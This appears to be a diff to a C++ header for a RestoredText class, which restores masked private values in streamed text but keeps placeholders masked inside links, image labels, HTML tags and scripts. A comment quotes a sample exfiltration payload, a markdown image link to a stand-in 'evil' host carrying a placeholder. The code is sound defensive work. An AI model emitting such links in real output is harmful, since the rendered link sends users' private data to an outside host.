@@ -11,17 +11,18 @@ namespace edgedraft {
 
 // A text that came with placeholders, as its reader is to see it: what they stand for in their
 // place, but where a reader's program might send it on by itself. A hostile target would write
-// ![](https://evil/?[NAME_001]). So within links, tags of HTML, and whatever contains "//" or
-// "https:" placeholders stay as they are, and so do those that were never given out.
+// ![](https://evil/?[NAME_001]). So within links, labels of pictures, tags of HTML, and whatever
+// contains "//" or "https:" placeholders stay as they are, and so do those that were never given
+// out.
 class RestoredText {
  public:
   // Values of more bytes together stay placeholders: a hostile target repeats the longest.
   static constexpr std::size_t kValueBytesMax = 4u << 20;
 
-  // `placeholders` outlives it. `in_json`: they stand within strings of JSON. Who reads it may show
-  // it as it is, or decode it: a placeholder stays where either might send its value on. `before`:
+  // `placeholders` outlives it. `in_json`: they stand within strings of JSON. A reader may show it
+  // as it is, or decode it: a placeholder stays where either might send its value on. `before`:
   // what the text goes on behind, with placeholders too, as a link may have begun there. It is not
-  // given out, and revise() does not count it. Of several texts that go on behind the same, each
+  // given out, and revise() does not count it. Where several texts go on behind the same, each
   // may be read by a copy.
   explicit RestoredText(const Placeholders& placeholders, bool in_json = false,
                         std::string_view before = {});
@@ -33,7 +34,7 @@ class RestoredText {
   };
   // The next piece of the text. What may be the beginning of a placeholder is held back.
   Piece push(std::string_view masked);
-  // Of the text so far, only so many characters stay; what follows comes by push().
+  // Only so many characters of the text so far stay; what follows comes by push().
   void revise(std::size_t characters);
   // No more follows: what was held back.
   Piece finish();
@@ -65,15 +66,21 @@ class RestoredText {
     bool target_angled = false;     // it may be within <...>
     bool in_definition = false;     // of a link: [name]: target
     bool definition_begun = false;  // its target
+    // Brackets of a label that may choose a definition's target, as of ![x] or [x][y]; 0: none.
+    int label_depth = 0;
+    bool label_may_follow = false;  // nothing but blanks stands behind a ']'
     bool in_sentence = false;       // directly behind a value that stands behind a word
     bool word_links = false;        // it contains "//", "http:", "https:" or "www."
     std::string word_tail;          // its last characters
+    bool runs_on = false;           // behind the beginning of a script or style sheet
 
     void take(char c);
+    void take_in_label(char c);
     void take_in_tag(char c);
     bool is_behind_word() const;
     bool may_be_sent_on() const {
-      return in_tag || target_depth > 0 || in_definition || word_links;
+      return runs_on || in_tag || target_depth > 0 || in_definition || label_depth > 0 ||
+             word_links;
     }
   };
 
